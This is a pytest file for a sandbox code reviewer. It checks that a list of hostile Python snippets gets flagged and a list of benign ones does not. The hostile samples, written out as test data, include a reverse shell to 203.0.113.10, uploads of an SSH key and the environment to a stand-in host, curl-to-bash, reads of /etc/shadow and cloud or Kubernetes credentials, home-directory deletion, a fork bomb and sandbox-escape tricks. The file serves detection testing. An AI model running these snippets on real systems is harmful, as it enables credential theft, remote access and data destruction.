"""What a reviewer is shown of a snippet that was read and not run: forty of both kinds."""

import ast
import json

import pytest

from runner.commands.check import to_sarif
from sandbox.guest.language.review import review
from sandbox.protocol.messages import Checked

HOSTILE = {
    "posts a key": "import requests\nk = open('/root/.ssh/id_rsa').read()\n"
    "requests.post('https://drop.example/x', data=k)",
    "posts the environment": "import os, urllib.request as u\n"
    "u.urlopen('http://drop.example/?' + str(dict(os.environ)))",
    "pipes a download into a shell": "import os\nos.system('curl -s http://a.example/i.sh | bash')",
    "runs what it downloads": "import urllib.request\n"
    "exec(urllib.request.urlopen('http://a.example/p.py').read())",
    "hides code in Base64": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "hides code by steps": "import zlib, base64\np = base64.b64decode('eJw=')\n"
    "q = zlib.decompress(p)\nexec(q)",
    "hides code in hex": "eval(bytes.fromhex('31').decode())",
    "hides code in numbers": "exec(''.join(chr(c) for c in [112, 114]))",
    "a reverse shell": "import socket, subprocess, os\ns = socket.socket()\n"
    "s.connect(('203.0.113.10', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    "climbs to all classes": "().__class__.__base__.__subclasses__()",
    "climbs by getattr": "getattr(getattr((), '__class__'), '__subclasses__')",
    "imports by a computed name": "import importlib\nimportlib.import_module('so' + chr(99))",
    "reads shadow": "print(open('/etc/shadow').read())",
    "reads cloud metadata": "import requests\n"
    "requests.get('http://169.254.169.254/latest/meta-data/iam')",
    "removes the home": "import shutil\nshutil.rmtree('/home/me')",
    "walks frames": "import sys\nsys._getframe(1).f_globals['key']",
    "calls libc": "import ctypes\nctypes.CDLL(None).system(b'id')",
    "unpickles a download": "import pickle, urllib.request as r\n"
    "pickle.loads(r.urlopen('http://a.example').read())",
    "forks for ever": "import os\nwhile True: os.fork()",
    "a built-in out of a table": "f = __builtins__['ev' + 'al']\nf('1')",
    "a built-in out of another": "import builtins\nvars(builtins)['exec']('1')",
    "the built-ins by their name": "globals()['__built' + 'ins__']",
    "climbs by a format": "'{0.__class__.__mro__}'.format(1)",
    "climbs by attrgetter": "import operator\noperator.attrgetter('__class__.__base__')(1)",
    "loads an extension": "import sqlite3\nsqlite3.connect(':memory:').load_extension('/tmp/x.so')",
    "reads a key": "import os\nos.environ['AWS_SECRET_ACCESS_KEY']",
    "asks for a key": "import os\nos.getenv('OPENAI_API_KEY')",
    "reads another process": "import os\nopen(f'/proc/{os.getppid()}/maps').read()",
    "reads its first process": "open('/proc/1/environ', 'rb')",
    "rewrites what it finds": "import os\nfor d, _, fs in os.walk('/home'):\n"
    "    for f in fs: os.remove(os.path.join(d, f))",
    "reads a pod's token": "t = '/var/run/secrets/kubernetes.io/serviceaccount/token'",
    "unpickles its own trap": "import pickle\nclass E:\n    def __reduce__(self):\n"
    "        import os\n        return os.getcwd, ()\npickle.loads(pickle.dumps(E()))",
    "walks a home": "import os\nlist(os.walk('/root'))",
    "reads another's home": "open('/home/me/notes.txt')",
    "looks for keys": "import glob\nglob.glob('/home/*/.config/*')",
    "slips out of an archive": "n = '../../etc/cron.d/x'",
    "reads its own pickle, armed": "import pickle\nclass A:\n"
    "    def __reduce__(self): return (print, ())\n"
    "pickle.dump(A(), open('m', 'wb'))\nwith open('m', 'wb') as f: pass\n"
    "with open('m', 'rb') as f: pickle.load(f)",
    "removes what is above": "import shutil\nshutil.rmtree('../data')",
    "installs a package": "import subprocess, sys\n"
    "subprocess.run([sys.executable, '-m', 'pip', 'install', 'evil'])",
}
BENIGN = {
    "copies by pickling": "import pickle\npickle.loads(pickle.dumps({'a': [1]}))",
    "keeps a pickle in a name": "import pickle\ns = pickle.dumps([1])\npickle.loads(s)",
    "lists its own directories": "import os, glob\nos.listdir('out'), glob.glob('data/*.csv')",
    "sums": "total = sum(range(10))\nprint(total)",
    "reads a table": "import pandas as pd\ndf = pd.read_csv('sales.csv')\ndf.describe()",
    "groups": "import pandas as pd\ndf = pd.DataFrame({'a': [1]})\ndf.groupby('a').sum()",
    "plots": "import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.savefig('p.png')",
    "fits": "from sklearn.linear_model import LinearRegression\nLinearRegression().fit([[1]], [1])",
    "writes a file": "with open('out.txt', 'w') as f:\n    f.write('x')",
    "writes json": "import json\njson.dump({'a': 1}, open('a.json', 'w'))",
    "dates": "from datetime import date\n(date(2026, 1, 1) - date(2025, 1, 1)).days",
    "numbers": "import numpy as np\nnp.linalg.inv(np.eye(3))",
    "text": "import re\nre.findall('[a-z]+', 'a b')",
    "a class": "class A:\n    def __init__(self):\n        self.x = 1\nA().x",
    "its own class": "print(type(1).__name__, (1).__class__.__name__)",
    "paths": "from pathlib import Path\nlist(Path('.').glob('*.csv'))",
    "a variable": "import os\nos.environ.get('LANG')\nos.path.join('a', 'b')",
    "an encoded text": "import base64\nbase64.b64encode(b'x')",
    "a decoded text": "import base64\nprint(base64.b64decode('eA=='))",
    "a query": "df = None\nprint('SELECT password FROM users')",
    "evaluates a constant": "eval('1 + 1')",
    "sqlite": "import sqlite3\nsqlite3.connect('a.db').execute('select 1')",
    "reads its own pickle": "import pickle\nwith open('m.pkl', 'wb') as f:\n    pickle.dump(1, f)\n"
    "with open('m.pkl', 'rb') as f:\n    pickle.load(f)",
    "removes its own directory": "import shutil, tempfile\nd = tempfile.mkdtemp()\n"
    "shutil.rmtree(d)\nshutil.rmtree('out')",
    "formats a name": "'{0.__class__.__name__}'.format(1)",
    "reads data above": "open('../data/a.csv')",
    "null device": "open('/dev/null', 'w').write('x')",
}


def severities(code: str) -> set[str]:
    return {str(row[2]) for row in review(ast.parse(code))}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_snippet_is_flagged(name):
    assert severities(HOSTILE[name]) & {"warning", "danger"}


@pytest.mark.parametrize("name", BENIGN)
def test_a_benign_snippet_is_at_most_noted(name):
    assert severities(BENIGN[name]) <= {"note"}


def test_a_finding_has_its_line_kind_and_reason():
    code = "x = 1\nimport os as o\no.system('ls')\n"
    assert review(ast.parse(code)) == [
        [3, "process", "warning", "os.system", "starts a program"],
    ]


def test_sarif_names_file_line_and_rule():
    found = Checked("", [], [[4, "import socket", "no"]], "", review(ast.parse("eval(x)")))
    log = json.loads(json.dumps(to_sarif(found, "a.py")))
    results = log["runs"][0]["results"]
    assert [(one["ruleId"], one["level"]) for one in results] == [
        ("cellblock/obfuscation", "warning"),
        ("cellblock/refused", "error"),
    ]
    place = results[1]["locations"][0]["physicalLocation"]
    assert (place["artifactLocation"]["uri"], place["region"]["startLine"]) == ("a.py", 4)
